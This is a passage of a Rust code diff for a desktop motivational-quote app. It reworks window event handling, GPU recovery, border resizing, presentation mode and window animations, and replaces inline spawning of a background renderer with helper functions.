+        match event {
+            WindowEvent::CloseRequested => popup.hide(),
+            WindowEvent::Resized(size) => popup.render_state.resize(size),
+            WindowEvent::RedrawRequested => match popup.render(app_state) {
+                Some(QuickAddOutcome::Add(quote)) => {
+                    app_state.add_quote(quote);
+                    app_state.push_toast(ToastKind::Success, "Quote added");
+                    popup.hide();
+                    if let Some(window) = self.window {
+                        window.request_redraw();
+                    }
+                }
+                Some(QuickAddOutcome::Cancel) => popup.hide(),
+                None => {}
+            },
+            _ => {}
+        }
+    }
+
+    /// Apply requests forwarded by later launches of the app
+    fn handle_instance_messages(&mut self) {
+        let (Some(window), Some(instance), Some(app_state)) =
+            (self.window, self.instance.as_ref(), self.app_state.as_mut())
+        else {
+            return;
+        };
+        for message in instance.messages.try_iter() {
+            match message {
+                InstanceMessage::Focus => {
+                    window.set_visible(true);
+                    window.set_minimized(false);
+                    window.focus_window();
+                }
+                InstanceMessage::AddQuote(quote) => {
+                    app_state.add_quote(quote);
+                    app_state.push_toast(ToastKind::Info, "Quote added from the command line");
+                    if window.is_visible() != Some(false) && window.is_minimized() != Some(true) {
+                        app_state.cue_attention();
+                    }
+                    window.request_redraw();
+                }
+                InstanceMessage::NextQuote => {
+                    app_state.next_quote_from_cli();
+                    window.request_redraw();
+                }
+            }
+        }
+    }
+
+    /// Replace the render state after a device error, up to
+    /// GPU_RECOVERY_ATTEMPTS times a minute, then give up with a message.
+    /// Textures lived on the old device, so the shaped-text cache is dropped
+    /// and the font atlas rebuilt for egui to upload everything again.
+    fn recover_gpu(&mut self, error: &str) {
+        let Some(window) = self.window else {
+            return;
+        };
+        if self
+            .last_gpu_recovery
+            .is_some_and(|at| at.elapsed() > GPU_RECOVERY_WINDOW)
+        {
+            self.gpu_recoveries = 0;
+        }
+        log_to_file(&format!("GPU error, recreating the render state: {error}"));
+        if self.gpu_recoveries >= GPU_RECOVERY_ATTEMPTS {
+            log_to_file("GPU recovery failed too often, exiting");
+            let _ = rfd::MessageDialog::new()
+                .set_level(rfd::MessageLevel::Error)
+                .set_title("Daily Motivation")
+                .set_description(format!(
+                    "The graphics device stopped working and couldn't be restarted.\n\n{error}"
+                ))
+                .set_buttons(rfd::MessageButtons::Ok)
+                .show();
+            self.should_close = true;
+            return;
+        }
+        self.gpu_recoveries += 1;
+        self.last_gpu_recovery = Some(Instant::now());
+
+        // The old device has to go before the surface is created again
+        self.render_state = None;
+        match pollster::block_on(WgpuRenderState::new(window)) {
+            Ok(render_state) => {
+                self.render_state = Some(render_state);
+                self.shaped_text_textures.clear();
+                if let Some(ctx) = &self.egui_ctx {
+                    if !self.safe_mode {
+                        setup_fonts(ctx);
+                    } else {
+                        setup_icon_font(ctx);
+                    }
+                    ctx.request_repaint();
+                }
+                if let Some(app_state) = self.app_state.as_mut() {
+                    app_state.push_toast(ToastKind::Info, "Graphics device restarted");
+                }
+                log_to_file("Render state recreated");
+            }
+            // Tried again on the next frame (see `render`)
+            Err(e) => log_to_file(&format!("Render state recreation failed: {e}")),
+        }
+    }
+
+    fn render(&mut self, window: &Window) {
+        // Past the startup window: a crash from here on isn't a startup crash
+        if self
+            .startup_marker
+            .is_some_and(|at| at.elapsed() >= STARTUP_GRACE)
+        {
+            clear_startup_marker();
+            self.startup_marker = None;
+        }
+
+        // The last recreation failed: try again before drawing anything
+        if self.render_state.is_none() && self.last_gpu_recovery.is_some() {
+            self.recover_gpu("the graphics device could not be recreated");
+        }
+
+        // Take cosmic-text state out of self before entering the closure
+        let mut font_system = self.font_system.take();
+        let has_hotkey = self.has_click_through_hotkey();
+        let mut swash_cache = self.swash_cache.take();
+        let mut tex_cache = std::mem::take(&mut self.shaped_text_textures);
+
+        let (app_state, egui_ctx, egui_state, render_state) = match (
+            self.app_state.as_mut(),
+            self.egui_ctx.as_mut(),
+            self.egui_state.as_mut(),
+            self.render_state.as_mut(),
+        ) {
+            (Some(state), Some(ctx), Some(est), Some(rst)) => (state, ctx, est, rst),
+            _ => {
+                // Return states before returning
+                self.font_system = font_system;
+                self.swash_cache = swash_cache;
+                self.shaped_text_textures = tex_cache;
+                return;
+            }
+        };
+
+        // (Animation Engine moved below)
+
+        let mut raw_input = egui_state.take_egui_input(window);
+
+        // Ctrl+Shift+Plus/Minus scale the whole interface
+        for event in &raw_input.events {
+            if let egui::Event::Key {
+                key,
+                pressed: true,
+                modifiers,
+                ..
+            } = event
+            {
+                if modifiers.command && modifiers.shift {
+                    match key {
+                        egui::Key::Plus | egui::Key::Equals => {
+                            app_state.step_ui_scale(UI_SCALE_STEP)
+                        }
+                        egui::Key::Minus => app_state.step_ui_scale(-UI_SCALE_STEP),
+                        _ => {}
+                    }
+                } else if modifiers.command
+                    && *key == egui::Key::Home
+                    && !egui_ctx.wants_keyboard_input()
+                {
+                    // Ctrl+Home: back home, unless a text field wants it
+                    return_home(window, app_state);
+                }
+            }
+        }
+        // Takes effect from the next pass; egui asks for that repaint itself
+        if egui_ctx.zoom_factor() != app_state.ui_scale {
+            egui_ctx.set_zoom_factor(app_state.ui_scale);
+        }
 
-                                    let dev_path = "background/target/release/quantum_logo.exe";
-                                    let rel_path = "quantum_logo.exe";
-
-                                    let child_res = if std::path::Path::new(rel_path).exists() {
-                                        // Production / Distribution path (same folder)
-                                        std::process::Command::new(rel_path)
-                                            .args([
-                                                &size.width.to_string(),
-                                                &size.height.to_string(),
-                                                &pos_x.to_string(),
-                                                &pos_y.to_string(),
-                                                &main_hwnd_isize.to_string(),
-                                            ])
-                                            .spawn()
-                                    } else if std::path::Path::new(dev_path).exists() {
-                                        // Development path (cargo run from root)
-                                        std::process::Command::new(dev_path)
-                                            .args([
-                                                &size.width.to_string(),
-                                                &size.height.to_string(),
-                                                &pos_x.to_string(),
-                                                &pos_y.to_string(),
-                                                &main_hwnd_isize.to_string(),
-                                            ])
-                                            .spawn()
-                                    } else {
-                                        // Fallback to cargo run if not built
-                                        std::process::Command::new("cargo")
-                                            .args([
-                                                "run",
-                                                "--release",
-                                                "--manifest-path",
-                                                "background/Cargo.toml",
-                                                "--",
-                                                &size.width.to_string(),
-                                                &size.height.to_string(),
-                                                &pos_x.to_string(),
-                                                &pos_y.to_string(),
-                                                &main_hwnd_isize.to_string(),
-                                            ])
-                                            .spawn()
-                                    };
-
-                                    if let Ok(child) = child_res {
-                                        app_state.bg_process = Some(child);
-                                        app_state.bg_hwnd = None;
-                                    }
-                                }
-                                #[cfg(not(windows))]
-                                {
-                                    if let Ok(child) = std::process::Command::new("cargo")
-                                        .args([
-                                            "run",
-                                            "--release",
-                                            "--manifest-path",
-                                            "background/Cargo.toml",
-                                            "--",
-                                            &size.width.to_string(),
-                                            &size.height.to_string(),
-                                            &pos_x.to_string(),
-                                            &pos_y.to_string(),
-                                            "0",
-                                        ])
-                                        .spawn()
-                                    {
-                                        app_state.bg_process = Some(child);
-                                        app_state.bg_hwnd = None;
-                                    }
-                                }
-                            }
+        // Points, like everything egui lays out (native scale × ui_scale)
+        let scale = window.scale_factor() as f32 * egui_ctx.zoom_factor();
+        let window_size = Vec2::new(
+            window.inner_size().width as f32 / scale,
+            window.inner_size().height as f32 / scale,
+        );
+        let rotation = ContentRotation {
+            window: window_size,
+            quarter_turns: app_state.rotation,
+            angle: app_state.current_rotation_angle,
+            scale: app_state.current_scale,
+        };
+
+        // Presentation mode only reacts to Esc (exit) and the arrow keys (navigate)
+        if app_state.presentation_mode {
+            let mut exit = false;
+            for event in &raw_input.events {
+                if let egui::Event::Key {
+                    key, pressed: true, ..
+                } = event
+                {
+                    match key {
+                        egui::Key::Escape => exit = true,
+                        egui::Key::ArrowRight | egui::Key::ArrowDown => app_state.next_quote(),
+                        egui::Key::ArrowLeft | egui::Key::ArrowUp => app_state.prev_quote(),
+                        _ => {}
+                    }
+                }
+            }
+            raw_input
+                .events
+                .retain(|e| matches!(e, egui::Event::PointerMoved(_) | egui::Event::PointerGone));
+            if exit {
+                set_presentation_mode(window, app_state, false);
+            }
+        }
+
+        // Border resizing (the window is frameless). Decided on the raw input so
+        // the press that starts a resize, and its release, never reach the
+        // widget underneath.
+        let is_primary_button = |e: &egui::Event, down: bool| {
+            matches!(
+                e,
+                egui::Event::PointerButton { button: egui::PointerButton::Primary, pressed, .. }
+                    if *pressed == down
+            )
+        };
+        // A maximized or minimized window has no borders to grab
+        let maximized = is_maximized(window, app_state) || window.is_minimized() == Some(true);
+        if maximized {
+            app_state.manual_resize_start = None;
+        }
+        let mut resize_hover = None;
+        if let Some((dir, ..)) = app_state.manual_resize_start {
+            resize_hover = Some(dir);
+            if raw_input.events.iter().any(|e| is_primary_button(e, false)) {
+                app_state.manual_resize_start = None;
+            }
+            raw_input
+                .events
+                .retain(|e| !matches!(e, egui::Event::PointerButton { .. }));
+        } else if !app_state.presentation_mode && !maximized {
+            let pos = raw_input
+                .events
+                .iter()
+                .rev()
+                .find_map(|e| match e {
+                    egui::Event::PointerMoved(pos) => Some(*pos),
+                    _ => None,
+                })
+                .or_else(|| {
+                    let latest = egui_ctx.input(|i| i.pointer.latest_pos());
+                    latest.map(|pos| rotation.to_window(pos))
+                });
+            // Last frame's view: a slider drag in progress, or a widget under the pointer
+            let wants_pointer = egui_ctx.is_using_pointer()
+                || egui_ctx.viewport(|vp| blocks_resize(vp.hits.click.as_ref()));
+            // The borders belong to the window, whichever way the content faces
+            let screen_rect = Rect::from_min_size(Pos2::ZERO, window_size);
+            resize_hover = pos.and_then(|pos| resize_hit_test(pos, screen_rect, wants_pointer));
+
+            if let Some(dir) = resize_hover {
+                if raw_input.events.iter().any(|e| is_primary_button(e, true)) {
+                    raw_input.events.retain(|e| !is_primary_button(e, true));
+                    if let (Some((cx, cy)), Ok(wpos)) =
+                        (get_global_cursor(), window.outer_position())
+                    {
+                        let size = window.inner_size();
+                        if size.width > 0 && size.height > 0 {
+                            app_state.manual_resize_start =
+                                Some((dir, cx, cy, wpos.x, wpos.y, size.width, size.height));
+                        }
+                    } else {
+                        let _ = window.drag_resize_window(dir);
+                    }
+                }
+            }
+        }
+
+        rotation.apply_to_input(&mut raw_input);
+        let full_output = egui_ctx.run(raw_input, |ctx| {
+            // Track activity for auto-hide
+            if ctx.is_using_pointer() || ctx.input(|i| i.pointer.any_down() || !i.events.is_empty())
+            {
+                app_state.last_interaction = Instant::now();
+            }
+
+            if let Some(dir) = resize_hover {
+                ctx.set_cursor_icon(resize_cursor(dir));
+            }
+
+            // Handle active manual resizing (ended by the release above)
+            if let Some((dir, start_cx, start_cy, start_wx, start_wy, start_w, start_h)) =
+                app_state.manual_resize_start
+            {
+                if let Some((cx, cy)) = get_global_cursor() {
+                    let dx = cx - start_cx;
+                    let dy = cy - start_cy;
+
+                    // The minimum only binds the full window; mini mode has none
+                    let min = if app_state.display_mode == DisplayMode::Normal {
+                        let scale = window.scale_factor();
+                        (
+                            (MIN_WINDOW_SIZE.0 as f64 * scale).round() as u32,
+                            (MIN_WINDOW_SIZE.1 as f64 * scale).round() as u32,
+                        )
+                    } else {
+                        (0, 0)
+                    };
+                    let (new_x, new_y, new_w, new_h) = resize_geometry(
+                        dir,
+                        (start_wx, start_wy, start_w, start_h),
+                        (dx, dy),
+                        min,
+                        app_state.lock_aspect_ratio,
+                    );
+
+                    window.set_outer_position(winit::dpi::PhysicalPosition::new(new_x, new_y));
+                    let _ = window.request_inner_size(winit::dpi::PhysicalSize::new(new_w, new_h));
+                }
+            }
+
+            // The safe mode banner's "Restart normally" (relaunched by `main`)
+            if app_state.restart_normally {
+                self.should_close = true;
+            }
+
+            let mut actions = render_title_bar(ctx, app_state, window);
+
+            for action in &actions {
+                match action {
+                    TitleBarAction::ThemeClicked => app_state.theme_modal_open = true,
+                    TitleBarAction::PresentationClicked => {
+                        set_presentation_mode(window, app_state, true);
+                    }
+                    TitleBarAction::MiniClicked => {
+                        set_display_mode(window, app_state, DisplayMode::Mini);
+                    }
+                    TitleBarAction::ToggleBg => {
+                        // A manual toggle overrides low power mode's pause
+                        app_state.bg_paused_for_power = false;
+                        if app_state.bg_process.is_some() {
+                            app_state.stop_background();
                         } else {
-                            if let Some(mut child) = app_state.bg_process.take() {
-                                let _ = child.kill();
-                                let _ = child.wait();
-                            }
+                            spawn_background(window, app_state);
                         }
+                        app_state.save();
                     }
                     TitleBarAction::ExportClicked => {
-                        if let Ok(json) = serde_json::to_string_pretty(&app_state.quotes) {
-                            if let Ok(mut file) = OpenOptions::new()
-                                .create(true)
-                                .write(true)
-                                .truncate(true)
-                                .open("quotes_export.json")
-                            {
-                                let _ = file.write_all(json.as_bytes());
-                            }
-                        }
+                        app_state.export_open = true;
+                    }
+                    TitleBarAction::SaveImageClicked => {
+                        app_state.image_export_open = true;
                     }
                     TitleBarAction::ZoomIn => {
                         app_state.title_bar_state.zoom_level =
@@ -3799,7 +18481,16 @@ impl AppRunner {
                         window.set_minimized(true);
                     }
                     TitleBarAction::MaximizeClicked => {
-                        window.set_maximized(!window.is_maximized());
+                        toggle_maximized(window, app_state);
+                    }
+                    TitleBarAction::SizePreset(preset) => {
+                        apply_size_preset(window, app_state, *preset);
+                    }
+                    TitleBarAction::ToggleAlwaysOnTop => {
+                        set_always_on_top(window, app_state, !app_state.always_on_top);
+                    }
+                    TitleBarAction::ToggleClickThrough => {
+                        toggle_click_through(window, app_state, has_hotkey);
                     }
                     TitleBarAction::CloseClicked => {
                         self.should_close = true;
@@ -3857,10 +18548,15 @@ impl AppRunner {
                             };
                     }
                     TitleBarAction::PlayRotate => {
-                        // Increase target angle by 90 degrees (PI/2 radians)
-                        app_state.rotation = app_state.rotation.wrapping_add(1);
-                        app_state.target_rotation_angle =
-                            app_state.rotation as f32 * std::f32::consts::FRAC_PI_2;
+                        // A quarter turn clockwise; the angle keeps counting up
+                        // so the easing never spins back through zero
+                        app_state.rotation = (app_state.rotation + 1) % 4;
+                        app_state.target_rotation_angle += std::f32::consts::FRAC_PI_2;
+                        // The rotate animation turns every few seconds; only a
+                        // click is worth remembering
+                        if app_state.active_animation != AppAnimation::Rotate {
+                            app_state.save();
+                        }
                     }
                     TitleBarAction::PlayDissolve => {
                         if app_state.active_animation == AppAnimation::None {
@@ -3874,380 +18570,1749 @@ impl AppRunner {
                             } else {
                                 AppAnimation::Dissolve
                             };
+                    }
+                    TitleBarAction::PlayFly => {
                         if app_state.active_animation == AppAnimation::None {
-                            if let Ok(handle) = window.window_handle() {
-                                if let winit::raw_window_handle::RawWindowHandle::Win32(win32) =
-                                    handle.as_raw()
-                                {
-                                    let hwnd = HWND(win32.hwnd.get() as _);
-                                    unsafe {
-                                        let _ =
-                                            SetLayeredWindowAttributes(hwnd, None, 255, LWA_ALPHA);
-                                    }
+                            if let Ok(pos) = window.outer_position() {
+                                app_state.base_pos = Some((pos.x, pos.y));
+                            }
+                        }
+                        app_state.active_animation =
+                            if app_state.active_animation == AppAnimation::Fly {
+                                AppAnimation::None
+                            } else {
+                                AppAnimation::Fly
+                            };
+                    }
+                    TitleBarAction::StopAnimations => {
+                        app_state.active_animation = AppAnimation::None;
+                        if let Some((x, y)) = app_state.base_pos {
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(x, y));
+                        }
+                        app_state.base_pos = None;
+                    }
+                    TitleBarAction::ReturnHome => return_home(window, app_state),
+                    TitleBarAction::SetHome => {
+                        if let Ok(pos) = window.outer_position() {
+                            app_state.home_position = Some((pos.x, pos.y));
+                            app_state.save();
+                            app_state.push_toast(ToastKind::Info, "Home position set");
+                        }
+                    }
+                }
+            }
+
+            // Window Animation Engine (still in safe mode)
+            if app_state.safe_mode.is_some() && app_state.active_animation != AppAnimation::None {
+                app_state.active_animation = AppAnimation::None;
+                app_state.base_pos = None;
+            }
+            if app_state.active_animation != AppAnimation::None {
+                if let (Ok(pos), Some(monitor)) =
+                    (window.outer_position(), window.current_monitor())
+                {
+                    let size = window.outer_size();
+                    let monitor_size = monitor.size();
+                    app_state.anim_progress += 0.016;
+
+                    // Capture base position if not already set
+                    if app_state.base_pos.is_none() {
+                        app_state.base_pos = Some((pos.x, pos.y));
+                    }
+                    let (base_x, base_y) = app_state.base_pos.unwrap();
+
+                    match app_state.active_animation {
+                        AppAnimation::Bounce => {
+                            let mut new_x = pos.x as f32 + app_state.bounce_vel_x;
+                            let mut new_y = pos.y as f32 + app_state.bounce_vel_y;
+
+                            if new_x < 0.0 {
+                                new_x = 0.0;
+                                app_state.bounce_vel_x *= -1.0;
+                            } else if new_x + size.width as f32 > monitor_size.width as f32 {
+                                new_x = monitor_size.width as f32 - size.width as f32;
+                                app_state.bounce_vel_x *= -1.0;
+                            }
+
+                            if new_y < 0.0 {
+                                new_y = 0.0;
+                                app_state.bounce_vel_y *= -1.0;
+                            } else if new_y + size.height as f32 > monitor_size.height as f32 {
+                                new_y = monitor_size.height as f32 - size.height as f32;
+                                app_state.bounce_vel_y *= -1.0;
+                            }
+
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                                new_x as i32,
+                                new_y as i32,
+                            ));
+                            app_state.base_pos = Some((new_x as i32, new_y as i32));
+                        }
+                        AppAnimation::Shake => {
+                            let intensity = 12.0;
+                            let offset_x = (app_state.anim_progress * 130.0).sin() * intensity;
+                            let offset_y = (app_state.anim_progress * 115.0).cos() * intensity;
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                                base_x + offset_x as i32,
+                                base_y + offset_y as i32,
+                            ));
+                        }
+                        AppAnimation::Dance => {
+                            let radius = 70.0;
+                            let offset_x = (app_state.anim_progress * 4.0).sin() * radius;
+                            let offset_y = (app_state.anim_progress * 2.5).cos() * radius;
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                                base_x + offset_x as i32,
+                                base_y + offset_y as i32,
+                            ));
+                        }
+                        AppAnimation::Rotate if app_state.anim_progress > 2.5 => {
+                            app_state.anim_progress = 0.0;
+                            actions.push(TitleBarAction::PlayRotate);
+                        }
+                        // Opacity is applied below with the focus dim
+                        AppAnimation::Dissolve => {}
+                        AppAnimation::Fly => {
+                            let speed = 12.0;
+                            let mut new_x = pos.x as f32 + speed;
+                            let offset_y = (app_state.anim_progress * 2.0).sin() * 150.0;
+
+                            if new_x > monitor_size.width as f32 {
+                                new_x = -(size.width as f32);
+                            }
+
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                                new_x as i32,
+                                (monitor_size.height as f32 / 2.0 + offset_y) as i32,
+                            ));
+                        }
+                        AppAnimation::MoveTo { target, duration } => {
+                            let started = *app_state.move_started.get_or_insert_with(Instant::now);
+                            let t =
+                                started.elapsed().as_secs_f32() / duration.as_secs_f32().max(0.001);
+                            let eased = ease_out_cubic(t);
+                            let lerp = |from: i32, to: i32| {
+                                from + ((to - from) as f32 * eased).round() as i32
+                            };
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                                lerp(base_x, target.0),
+                                lerp(base_y, target.1),
+                            ));
+                            if t >= 1.0 {
+                                app_state.active_animation = AppAnimation::None;
+                                app_state.move_started = None;
+                                app_state.base_pos = Some(target);
+                                if geometry_is_resting(window, app_state) {
+                                    app_state.window_position = Some(target);
                                 }
                             }
                         }
-                    }
-                    TitleBarAction::PlayFly => {
-                        if app_state.active_animation == AppAnimation::None {
-                            if let Ok(pos) = window.outer_position() {
-                                app_state.base_pos = Some((pos.x, pos.y));
+                        _ => {}
+                    }
+                    window.request_redraw();
+                }
+            } else {
+                if app_state.base_pos.is_some() {
+                    if matches!(
+                        app_state.active_animation,
+                        AppAnimation::Shake | AppAnimation::Dance
+                    ) {
+                        if let Some((x, y)) = app_state.base_pos {
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(x, y));
+                        }
+                    }
+                    app_state.base_pos = None;
+                    app_state.anim_progress = 0.0;
+                }
+            }
+
+            // Attention cue shake: the Shake math at low intensity, then back
+            // to where the window was. An explicit animation cuts it short.
+            let cue_shake = app_state.attention_cue == AttentionCue::Shake
+                && app_state.active_animation == AppAnimation::None
+                && app_state.safe_mode.is_none();
+            match app_state.attention_progress().filter(|_| cue_shake) {
+                Some(t) => {
+                    if app_state.attention_base_pos.is_none() {
+                        app_state.attention_base_pos =
+                            window.outer_position().ok().map(|p| (p.x, p.y));
+                    }
+                    if let Some((base_x, base_y)) = app_state.attention_base_pos {
+                        let phase = t * ATTENTION_CUE_DURATION.as_secs_f32();
+                        let intensity = ATTENTION_SHAKE_PX * (1.0 - t);
+                        let offset_x = (phase * 130.0).sin() * intensity;
+                        let offset_y = (phase * 115.0).cos() * intensity;
+                        window.set_outer_position(winit::dpi::PhysicalPosition::new(
+                            base_x + offset_x as i32,
+                            base_y + offset_y as i32,
+                        ));
+                    }
+                }
+                None => {
+                    if let Some((x, y)) = app_state.attention_base_pos.take() {
+                        if app_state.active_animation == AppAnimation::None {
+                            window.set_outer_position(winit::dpi::PhysicalPosition::new(x, y));
+                        }
+                    }
+                }
+            }
+
+            let hovered = ctx.input(|i| i.pointer.hover_pos().is_some());
+            apply_window_opacity(window, app_state, hovered);
+            apply_backdrop(window, app_state);
+
+            // Pick up hand edits to settings.json
+            app_state.poll_settings_file();
+
+            // Follow OS light/dark + accent changes, rebuilding the style when they move
+            app_state.poll_system_theme();
+            let wanted_style = (app_state.ui_is_light(), app_state.theme.accent_primary);
+            if app_state.applied_ui_style != Some(wanted_style) {
+                ctx.set_style(ui_style(wanted_style.0, wanted_style.1));
+                app_state.applied_ui_style = Some(wanted_style);
+            }
+
+            // Pick the scheduled profile before deciding on the next quote
+            app_state.update_theme_band();
+            app_state.update_active_profile();
+            app_state.update_streak();
+            app_state.update_auto_backup();
+            app_state.update_release_check();
+            app_state.update_deadlines();
+            app_state.update_pending_clear();
+            app_state.poll_background();
+            app_state.poll_clipboard();
+            app_state.poll_hooks();
+            app_state.update_overlay();
+            if app_state.update_power() {
+                spawn_background(window, app_state);
+            }
+
+            // Nothing rotates while the user is away or editing. A focused
+            // text field only counts while the pointer is over the window;
+            // focus left behind in the panel mustn't hold rotation for good
+            let typing = ctx.wants_keyboard_input() && ctx.input(|i| i.pointer.has_pointer());
+            app_state.update_idle_hold(typing);
+
+            // Daily mode changes the quote at midnight instead of on a timer
+            app_state.update_daily_quote();
+            if app_state.rotation_overdue() {
+                app_state.next_quote();
+            }
+            if let Some(title) = app_state.pending_window_title() {
+                window.set_title(&title);
+            }
+
+            // Build shaper tuple from cosmic-text state
+            let mut shaper = match (font_system.as_mut(), swash_cache.as_mut()) {
+                (Some(fs), Some(sc)) => Some((fs, sc, &mut tex_cache)),
+                _ => None,
+            };
+
+            // Smooth content rotation and scaling animation
+            {
+                let speed = 8.0_f32;
+                let dt = 0.016_f32;
+                // Low power mode skips the easing
+                let lerp = if app_state.still_transitions() {
+                    1.0
+                } else {
+                    1.0 - (-speed * dt).exp()
+                };
+
+                app_state.current_rotation_angle +=
+                    (app_state.target_rotation_angle - app_state.current_rotation_angle) * lerp;
+
+                // Shrink the layout while it turns so its corners stay inside
+                let target_scale = ContentRotation {
+                    angle: app_state.current_rotation_angle,
+                    ..rotation
+                }
+                .fit_scale();
+                app_state.current_scale += (target_scale - app_state.current_scale) * lerp;
+
+                if (app_state.current_rotation_angle - app_state.target_rotation_angle).abs()
+                    > 0.001
+                    || (app_state.current_scale - target_scale).abs() > 0.001
+                {
+                    window.request_redraw();
+                } else {
+                    // Settle exactly, so an upright frame is drawn directly again
+                    app_state.current_rotation_angle = app_state.target_rotation_angle;
+                    app_state.current_scale = 1.0;
+                }
+            }
+
+            // Sync rotation state with 3D background (Windows Property)
+            #[cfg(windows)]
+            {
+                if let Ok(handle) = window.window_handle() {
+                    if let winit::raw_window_handle::RawWindowHandle::Win32(win32) = handle.as_raw()
+                    {
+                        let hwnd = HWND(win32.hwnd.get() as _);
+                        let mut property_name: Vec<u16> = "RotationState".encode_utf16().collect();
+                        property_name.push(0);
+                        let angle_bits = app_state.current_rotation_angle.to_bits();
+                        unsafe {
+                            let _ = SetPropW(
+                                hwnd,
+                                windows::core::PCWSTR(property_name.as_ptr()),
+                                windows::Win32::Foundation::HANDLE(angle_bits as _),
+                            );
+                        }
+                        // Scene knobs, so the background follows without a restart
+                        for (name, value) in app_state.background.props() {
+                            let mut name: Vec<u16> = name.encode_utf16().collect();
+                            name.push(0);
+                            unsafe {
+                                let _ = SetPropW(
+                                    hwnd,
+                                    windows::core::PCWSTR(name.as_ptr()),
+                                    windows::Win32::Foundation::HANDLE(value as _),
+                                );
                             }
                         }
-                        app_state.active_animation =
-                            if app_state.active_animation == AppAnimation::Fly {
-                                AppAnimation::None
-                            } else {
-                                AppAnimation::Fly
-                            };
                     }
-                    TitleBarAction::StopAnimations => {
-                        app_state.active_animation = AppAnimation::None;
-                        if let Ok(handle) = window.window_handle() {
-                            if let winit::raw_window_handle::RawWindowHandle::Win32(win32) =
-                                handle.as_raw()
-                            {
-                                let hwnd = HWND(win32.hwnd.get() as _);
-                                unsafe {
-                                    let _ = SetLayeredWindowAttributes(hwnd, None, 255, LWA_ALPHA);
-                                }
-                            }
-                        }
-                        if let Some((x, y)) = app_state.base_pos {
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(x, y));
-                        }
-                        app_state.base_pos = None;
+                }
+            }
+
+            match app_state.poll_hotspots(ctx) {
+                AppAction::None => {}
+                AppAction::ShowPanel => app_state.title_bar_state.control_panel_visible = true,
+                AppAction::TogglePanel => {
+                    app_state.title_bar_state.control_panel_visible =
+                        !app_state.title_bar_state.control_panel_visible;
+                }
+                AppAction::NextQuote => app_state.next_quote(),
+                AppAction::PrevQuote => app_state.prev_quote(),
+                AppAction::ToggleRotation => {
+                    app_state.rotation_enabled = !app_state.rotation_enabled;
+                    if app_state.rotation_enabled {
+                        app_state.restart_rotation();
                     }
                 }
+                AppAction::MiniMode => set_display_mode(window, app_state, DisplayMode::Mini),
+                AppAction::Presentation => set_presentation_mode(window, app_state, true),
             }
 
-            // Window Animation Engine
-            if app_state.active_animation != AppAnimation::None {
-                if let (Ok(pos), Some(monitor)) =
-                    (window.outer_position(), window.current_monitor())
-                {
-                    let size = window.outer_size();
-                    let monitor_size = monitor.size();
-                    app_state.anim_progress += 0.016;
+            app_state.quote_area = None;
+            if app_state.display_mode == DisplayMode::Mini {
+                render_mini_strip(ctx, app_state, window, &mut shaper);
+            } else {
+                render_main_content(ctx, app_state, &mut shaper);
+            }
 
-                    // Capture base position if not already set
-                    if app_state.base_pos.is_none() {
-                        app_state.base_pos = Some((pos.x, pos.y));
+            render_theme_modal(ctx, app_state);
+
+            render_profile_editor(ctx, app_state);
+
+            render_tag_manager(ctx, app_state);
+            render_sub_text_tool(ctx, app_state);
+
+            render_image_export_window(ctx, app_state, &mut shaper);
+
+            render_export_window(ctx, app_state);
+
+            render_import_window(ctx, app_state);
+
+            render_config_notice(ctx, app_state);
+
+            onboarding::render(ctx, app_state);
+
+            render_toasts(ctx, app_state);
+
+            // A faint amber edge while the mouse goes through the window
+            if app_state.click_through {
+                ctx.layer_painter(egui::LayerId::new(
+                    egui::Order::Foreground,
+                    egui::Id::new("click_through_edge"),
+                ))
+                .rect_stroke(
+                    ctx.screen_rect().shrink(1.0),
+                    Rounding::same(4.0),
+                    Stroke::new(2.0, Color32::from_rgb(255, 176, 64).gamma_multiply(0.6)),
+                );
+            }
+
+            // Hide the cursor once the presentation has been left alone for a bit
+            if app_state.presentation_mode {
+                let idle = app_state.last_interaction.elapsed();
+                if idle >= Duration::from_secs(3) {
+                    ctx.set_cursor_icon(egui::CursorIcon::None);
+                } else {
+                    ctx.request_repaint_after(Duration::from_secs(3) - idle);
+                }
+            }
+
+            hide_idle_cursor(ctx, app_state);
+
+            if app_state.fps_overlay {
+                render_fps_overlay(ctx, app_state);
+            }
+
+            // Render floating buttons
+            let float_actions = render_floating_buttons(ctx, app_state);
+            for action in float_actions {
+                match action {
+                    TitleBarAction::TogglePanel => {
+                        app_state.title_bar_state.control_panel_visible =
+                            !app_state.title_bar_state.control_panel_visible;
                     }
-                    let (base_x, base_y) = app_state.base_pos.unwrap();
+                    TitleBarAction::ShowHeader => {
+                        app_state.title_bar_state.header_visible = true;
+                    }
+                    _ => {}
+                }
+            }
+        });
+        // The scale this pass was actually laid out at
+        let scale = full_output.pixels_per_point;
 
-                    match app_state.active_animation {
-                        AppAnimation::Bounce => {
-                            let mut new_x = pos.x as f32 + app_state.bounce_vel_x;
-                            let mut new_y = pos.y as f32 + app_state.bounce_vel_y;
+        self.repaint_delay = full_output
+            .viewport_output
+            .get(&egui::ViewportId::ROOT)
+            .map(|v| v.repaint_delay)
+            .unwrap_or(Duration::ZERO);
 
-                            if new_x < 0.0 {
-                                new_x = 0.0;
-                                app_state.bounce_vel_x *= -1.0;
-                            } else if new_x + size.width as f32 > monitor_size.width as f32 {
-                                new_x = monitor_size.width as f32 - size.width as f32;
-                                app_state.bounce_vel_x *= -1.0;
-                            }
+        egui_state.handle_platform_output(window, full_output.platform_output);
 
-                            if new_y < 0.0 {
-                                new_y = 0.0;
-                                app_state.bounce_vel_y *= -1.0;
-                            } else if new_y + size.height as f32 > monitor_size.height as f32 {
-                                new_y = monitor_size.height as f32 - size.height as f32;
-                                app_state.bounce_vel_y *= -1.0;
-                            }
+        let paint_jobs = egui_ctx.tessellate(full_output.shapes, scale);
 
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
-                                new_x as i32,
-                                new_y as i32,
-                            ));
-                            app_state.base_pos = Some((new_x as i32, new_y as i32));
-                        }
-                        AppAnimation::Shake => {
-                            let intensity = 12.0;
-                            let offset_x = (app_state.anim_progress * 130.0).sin() * intensity;
-                            let offset_y = (app_state.anim_progress * 115.0).cos() * intensity;
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
-                                base_x + offset_x as i32,
-                                base_y + offset_y as i32,
-                            ));
-                        }
